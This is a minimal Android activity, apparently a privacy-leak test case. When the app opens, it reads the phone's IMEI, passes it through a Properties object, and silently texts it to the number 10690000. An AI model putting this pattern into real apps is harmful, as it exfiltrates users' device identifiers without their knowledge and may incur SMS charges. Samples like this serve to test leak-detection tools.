package cn.privlens.suite.properties;

import android.app.*;
import android.content.*;
import android.location.*;
import android.net.Uri;
import android.os.*;
import android.telephony.*;
import android.util.*;
import android.view.*;
import android.webkit.*;
import android.widget.*;
import java.io.*;
import java.net.*;
import java.util.*;
import java.util.concurrent.*;
import java.util.regex.*;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        Properties p = new Properties();
        p.setProperty("id", ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId());
        p.setProperty("name", "n");
        SmsManager.getDefault().sendTextMessage("10690000", null, p.getProperty("id"), null, null);
    }

}
